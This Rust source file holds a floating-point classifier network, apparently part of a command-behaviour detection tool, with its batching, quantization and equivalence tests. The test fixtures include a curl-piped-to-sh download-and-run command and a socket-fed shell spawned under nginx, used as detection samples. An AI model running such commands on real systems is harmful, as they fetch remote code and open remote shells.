//! The network in floating point, as candle trains it; the same arithmetic as [`crate::network`] before quantization.

mod architecture;
mod ops;
mod stored;

use std::collections::{BTreeMap, HashMap};
use std::sync::Arc;

use candle_core::quantized::{GgmlDType, QTensor};
use candle_core::{Device, Result, Tensor, Var};

use super::draw::Draw;
use crate::facts::FACTS;
use crate::network::Rows;
use crate::shape::{ROWS_PER_TOKEN, Shape};

use ops::Embed;

pub use architecture::Architecture;
pub use stored::gguf;

/// Trainable weights by the names of the artifact's tensors.
pub struct Float {
    /// Its shape.
    pub shape: Shape,
    architecture: Architecture,
    vars: BTreeMap<String, Var>,
}

/// Stories of about one length as tensors.
pub struct Batch {
    words: Arc<[Rows]>,
    places: Arc<[u32]>,
    facts: Tensor,
    stories: usize,
    tokens: usize,
}

impl Batch {
    /// `stories`: the tokens and facts of each. A token that occurs often is embedded once.
    pub fn new(stories: &[(&[Rows], &[f32; FACTS])], shape: &Shape) -> Result<Self> {
        let longest = stories
            .iter()
            .map(|(rows, _)| rows.len())
            .max()
            .unwrap_or(0);
        let tokens = longest + shape.widest();
        let mut places = vec![0u32; stories.len() * tokens];
        let mut unique = vec![Rows::default()];
        let mut known: HashMap<[u32; ROWS_PER_TOKEN], u32> = HashMap::new();
        let mut facts = Vec::with_capacity(stories.len() * FACTS);
        for (index, (story, own)) in stories.iter().enumerate() {
            for (at, one) in story.iter().enumerate() {
                if one.weights[0] == 0.0 {
                    continue;
                }
                let next = unique.len() as u32;
                let place = *known.entry(one.rows).or_insert(next);
                if place == next {
                    unique.push(*one);
                }
                places[index * tokens + at] = place;
            }
            facts.extend_from_slice(&own[..]);
        }
        Ok(Self {
            words: unique.into(),
            places: places.into(),
            facts: Tensor::from_vec(facts, (stories.len(), FACTS), &Device::Cpu)?,
            stories: stories.len(),
            tokens,
        })
    }

    /// Which word stands at each place, a row a story.
    fn places(&self) -> Result<Tensor> {
        Tensor::from_slice(&self.places, (self.stories, self.tokens), &Device::Cpu)
    }

    /// What each word counts in the mean of the tokens of each story; what pads a stream weighs nothing.
    fn shares(&self, words: usize) -> Result<Tensor> {
        let mut shares = vec![0f32; self.stories * words];
        let streams = self.places.chunks_exact(self.tokens);
        for (places, shares) in streams.zip(shares.chunks_exact_mut(words)) {
            let there = || places.iter().filter(|place| **place != 0);
            let each = 1.0 / there().count().max(1) as f32;
            there().for_each(|place| shares[*place as usize] += each);
        }
        Tensor::from_vec(shares, (self.stories, words), &Device::Cpu)
    }
}

impl Float {
    /// Random weights.
    pub fn new(shape: &Shape, architecture: Architecture, draw: &mut Draw) -> Result<Self> {
        let mut vars = BTreeMap::new();
        for (name, dims) in architecture.tensors(shape) {
            let deviation = match (name.as_str(), dims.as_slice()) {
                ("embedding.weight", _) => 0.15,
                (_, [_, inputs]) => (1.5 / *inputs as f32).sqrt(),
                _ => 0.0,
            };
            let count = dims.iter().product();
            let mut values: Vec<f32> = (0..count).map(|_| draw.normal(deviation)).collect();
            // Facts come last of what enters; one that no story shows must weigh nothing, not something drawn.
            if let ("hidden.weight", [_, inputs]) = (name.as_str(), dims.as_slice()) {
                let rows = values.chunks_exact_mut(*inputs);
                rows.for_each(|row| row[inputs - FACTS..].fill(0.0));
            }
            let tensor = Tensor::from_vec(values, dims, &Device::Cpu)?;
            vars.insert(name, Var::from_tensor(&tensor)?);
        }
        Ok(Self {
            shape: shape.clone(),
            architecture,
            vars,
        })
    }

    /// Every trainable weight.
    pub fn vars(&self) -> Vec<Var> {
        self.vars.values().cloned().collect()
    }

    /// Weights by name.
    pub fn weights(&self) -> HashMap<String, Tensor> {
        let all = self.vars.iter();
        all.map(|(name, var)| (name.clone(), var.as_tensor().clone()))
            .collect()
    }

    /// Takes up `weights`; false, and some may be changed, when they are not this network's.
    pub fn set(&self, weights: &HashMap<String, Tensor>) -> bool {
        self.vars.iter().all(|(name, var)| {
            let known = weights.get(name);
            known.is_some_and(|weight| weight.dims() == var.dims() && var.set(weight).is_ok())
        })
    }

    /// How many features a story has before the hidden layer.
    pub fn features_of_story(&self) -> usize {
        self.architecture.features(&self.shape)
    }

    /// The highest rate of its fit.
    pub fn peak_rate(&self) -> f64 {
        self.architecture.peak_rate()
    }

    /// How many weights there are.
    pub fn size(&self) -> usize {
        self.vars.values().map(|var| var.elem_count()).sum()
    }

    /// The same network with its matrices rounded as `dtype` stores them, and what all weights take then, in bytes.
    /// A matrix that has no whole number of blocks is rounded as Q8_0, as the artifact's are.
    pub fn rounded(&self, dtype: GgmlDType) -> Result<(Self, usize)> {
        let matrices = self.shape.network_tensors();
        let is_matrix = |wanted: &str| {
            let mut all = matrices.iter();
            all.any(|(name, _, quantized)| name == wanted && *quantized)
        };
        let (mut vars, mut bytes) = (BTreeMap::new(), 0);
        for (name, var) in &self.vars {
            let tensor = var.as_tensor();
            let (rounded, own) = if is_matrix(name) {
                rounded(tensor, dtype)?
            } else {
                (tensor.copy()?, tensor.elem_count() * size_of::<f32>())
            };
            vars.insert(name.clone(), Var::from_tensor(&rounded)?);
            bytes += own;
        }
        let network = Self {
            shape: self.shape.clone(),
            architecture: self.architecture,
            vars,
        };
        Ok((network, bytes))
    }

    fn var(&self, name: &str) -> &Tensor {
        self.vars[name].as_tensor()
    }

    /// Logits, a row a story. Training hides some of the features: `kept` is what each counts, a row a story.
    pub fn forward(&self, batch: &Batch, kept: Option<&Tensor>) -> Result<Tensor> {
        let embed = Embed {
            words: batch.words.clone(),
        };
        let words = self.var("embedding.weight").apply_op1(embed)?;
        let mut pooled = self.features(&words, batch)?;
        pooled.push(batch.facts.clone());
        let mut features = Tensor::cat(&pooled, 1)?;
        if let Some(kept) = kept {
            features = (features * kept)?;
        }
        let hidden = self.dense(&features, "hidden")?.relu()?;
        self.dense(&hidden, "heads")
    }

    fn dense(&self, input: &Tensor, name: &str) -> Result<Tensor> {
        input
            .matmul(&self.var(&format!("{name}.weight")).t()?)?
            .broadcast_add(self.var(&format!("{name}.bias")))
    }
}

/// A tensor as it comes back from `dtype`, and its bytes there.
fn rounded(tensor: &Tensor, dtype: GgmlDType) -> Result<(Tensor, usize)> {
    let count = tensor.elem_count();
    let dtype = match count % dtype.block_size() {
        0 => dtype,
        _ => GgmlDType::Q8_0,
    };
    let blocks = tensor.reshape((count / dtype.block_size(), dtype.block_size()))?;
    let stored = QTensor::quantize(&blocks, dtype)?;
    let back = stored.dequantize(&Device::Cpu)?.reshape(tensor.dims())?;
    Ok((back, stored.storage_size_in_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifact::Writer;
    use crate::calibration::{Blend, Calibration, Platt, Thresholds};
    use crate::facts;
    use crate::gate::Gate;
    use crate::tokens::{Limits, Tokens};
    use cordon_behavior::story::Story;

    /// Most that a logit may differ by; logits of stories are several units apart.
    const APART: f32 = 0.1;

    fn stories() -> Vec<Story> {
        let lines = [
            r#"{"id":"1","command":"curl -s http://192.0.2.1/x | sh"}"#,
            r#"{"id":"2","session":["cd /srv/app","git pull","make -j4"]}"#,
            r#"{"id":"3","process":{"exe":"/bin/sh","argv":["sh","-i"],"stdin":"socket"},"ancestors":[{"exe":"/usr/sbin/nginx","argv":["nginx"]}]}"#,
            r#"{"id":"4","process":{"exe":"/bin/true"}}"#,
        ];
        lines
            .iter()
            .map(|line| Story::from_json(line.as_bytes()).unwrap())
            .collect()
    }

    #[test]
    fn fewer_bits_are_smaller_and_further_from_what_was_fitted() {
        let shape = Shape::standard(vec!["T1059.004".to_owned(), "T1105".to_owned()]);
        let network = Float::new(&shape, Architecture::Convolution, &mut Draw::new(9)).unwrap();
        let apart = |dtype| {
            let (rounded, bytes) = network.rounded(dtype).unwrap();
            let (one, other) = (
                network.var("embedding.weight"),
                rounded.var("embedding.weight"),
            );
            let apart = (one - other).unwrap().abs().unwrap().max_all().unwrap();
            (apart.to_scalar::<f32>().unwrap(), bytes)
        };
        let (eight, four) = (apart(GgmlDType::Q8_0), apart(GgmlDType::Q4K));
        assert!(0.0 < eight.0 && eight.0 < four.0, "{eight:?} {four:?}");
        assert!(four.1 < eight.1 && eight.1 < network.size() * 4);
    }

    /// The artifact's path and the training's path are two pieces of code: they must be one function.
    #[test]
    fn the_quantized_networks_say_what_the_float_networks_say() {
        let shape = Shape::standard(vec!["T1059.004".to_owned(), "T1105".to_owned()]);
        let networks = [9, 10, 11].map(|seed| {
            Float::new(&shape, Architecture::Convolution, &mut Draw::new(seed)).unwrap()
        });
        assert_eq!(shape.networks, networks.len());
        let dir = tempfile::tempdir().unwrap();
        let weights = gguf(&networks, &Gate::blank(shape.gate_rows)).unwrap();
        let nothing = BTreeMap::new();
        let writer = Writer {
            dir: dir.path(),
            shape: &shape,
            weights: &weights,
            data: &nothing,
            training: &nothing,
        };
        let calibration = Calibration {
            seen: Blend::NETWORK,
            text: Blend::NETWORK,
            gate: Platt::IDENTITY,
            thresholds: Thresholds {
                gate: 0.0,
                suspicious: 0.5,
                malicious: 0.9,
            },
            technique: 0.2,
        };
        let model = writer.write(&calibration, "card").unwrap();
        let stories = stories();
        let rows: Vec<Vec<Rows>> = stories
            .iter()
            .map(|story| {
                Tokens::of(
                    story,
                    Limits {
                        tokens: shape.tokens,
                    },
                    &shape.reads,
                )
            })
            .map(|tokens| {
                tokens
                    .iter()
                    .map(|(field, piece)| Rows::of(field, piece, shape.rows))
                    .collect()
            })
            .collect();
        let known: Vec<[f32; FACTS]> = stories
            .iter()
            .map(|story| facts::of(story, &shape.reads))
            .collect();
        let pairs: Vec<(&[Rows], &[f32; FACTS])> =
            rows.iter().map(Vec::as_slice).zip(&known).collect();
        let batch = Batch::new(&pairs, &shape).unwrap();
        let said = networks.map(|network| network.forward(&batch, None).unwrap());
        let float = Tensor::stack(&said, 0).unwrap().mean(0).unwrap();
        let float: Vec<Vec<f32>> = float.to_vec2().unwrap();
        for (story, float) in stories.iter().zip(float) {
            let quantized = model.logits(&model.read(story));
            for (float, quantized) in float.iter().zip(quantized) {
                assert!(
                    (float - quantized).abs() < APART,
                    "{}: {float} is not {quantized}",
                    story.id
                );
            }
        }
    }
}
